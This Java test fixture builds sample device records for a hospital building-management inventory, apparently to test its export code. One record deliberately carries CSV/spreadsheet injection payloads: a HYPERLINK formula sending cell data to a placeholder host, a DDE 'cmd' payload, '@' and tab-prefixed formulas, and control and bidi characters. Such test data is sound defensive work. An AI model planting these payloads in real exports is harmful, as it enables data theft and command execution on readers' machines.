package fr.vigie.web.exchange;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import fr.vigie.inventory.json.Json;
import java.util.List;
import java.util.stream.IntStream;

/** Devices as the API gives them, some of them hostile. */
final class Shop {
  static final About ABOUT = new About("chu", "CHU Saint-Éloi", "2026-03-10T08:24:50.000000000Z", true, "0.1.0");
  static final String FORMULA = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"CTA\")";

  private Shop() {}

  static ObjectNode device(int n) {
    return device("a-%016d".formatted(n), "CTA-" + n, "10." + (n >>> 16) + "." + (n >>> 8 & 255) + "." + (n & 255), "00:a0:03:%02x:%02x:%02x".formatted(n >>> 16 & 255, n >>> 8 & 255, n & 255));
  }

  static ObjectNode device(String id, String name, String ip, String mac) {
    ObjectNode d = Json.object().put("v", 1).put("id", id);
    ArrayNode keys = d.putArray("keys").add("mac=" + mac).add("ip=" + ip).add("bacnet-instance=" + 1000);
    keys.add("serial=SN-" + id);
    ArrayNode firmware = d.putObject("traits").putArray("firmware");
    firmware.addObject().put("value", "2.1").put("source", "bacnet").put("cite", "ASHRAE 135-2020 §12.11.10").put("first", "2026-03-10T06:00:01.000000000Z")
        .put("last", "2026-03-10T08:00:00.000000000Z").put("confidence", 90);
    d.put("kind", "ahu-cta").put("zone", "cvc").putNull("place").putNull("parent");
    d.putArray("children");
    d.put("first", "2026-03-10T06:00:01.000000000Z").put("last", "2026-03-10T08:24:49.000000000Z");
    d.putObject("decisions").put("review", "approved");
    d.put("name", name).put("vendor", "Siemens").put("model", "PXC36-E.D").put("firmware", "2.1").put("serial", "SN-" + id).put("care", 4).put("kindConfidence", 80)
        .put("owner", "Services techniques").putNull("supplier").putNull("contract").put("site", "Nord").put("building", "B").put("floor", "-1").putNull("room");
    ArrayNode addresses = d.putArray("addresses");
    addresses.addObject().putNull("ip").put("mac", mac).put("vlan", 110).put("key", "mac=" + mac).put("current", true);
    addresses.addObject().put("ip", ip).putNull("mac").put("vlan", 110).put("key", "ip=" + ip).put("current", true);
    addresses.addObject().put("ip", "192.0.2.9").putNull("mac").put("key", "ip=192.0.2.9").put("current", false);
    return d;
  }

  /** Three ordinary ones, one whose words are hostile, one behind a router. */
  static List<ObjectNode> some() {
    ObjectNode hostile = device("a-hostile0000001", FORMULA, "10.0.0.7", "02:00:00:00:00:07");
    hostile.put("vendor", "+cmd|' /C calc'!A0").put("model", "a\u0000b\u202Ec;\"d\"\r\n=e").put("owner", "@SUM(1)").put("building", "\t=1");
    ObjectNode below = device("a-below000000001", "CTA-1", "10.0.0.1", "00:a0:03:00:00:01");
    below.putNull("firmware").putNull("model").putNull("vendor").put("kind", "unknown");
    ArrayNode addresses = below.putArray("addresses");
    addresses.addObject().put("ip", "10.0.0.1").putNull("mac").put("bacnet", "2001:0x0a").put("key", "bacnet=2001:0x0a@10.0.0.1").put("current", true);
    ObjectNode server = device(3);
    server.put("kind", "bms-supervisor").put("name", "SRV-GTB").put("id", "a-server000000001");
    server.withArray("addresses").addObject().put("ip", "fd00:20::3").putNull("mac").put("key", "ip=fd00:20::3").put("current", true);
    return List.of(device(1), device(2), hostile, below, server);
  }

  static Devices of(List<ObjectNode> devices) {
    return walk -> {
      for (ObjectNode d : devices) {
        walk.take(d.deepCopy());
      }
    };
  }

  /** As many as a large hospital has, made while they are walked. */
  static Devices many(int n) {
    return walk -> {
      for (int i : IntStream.range(0, n).toArray()) {
        walk.take(device(i));
      }
    };
  }
}
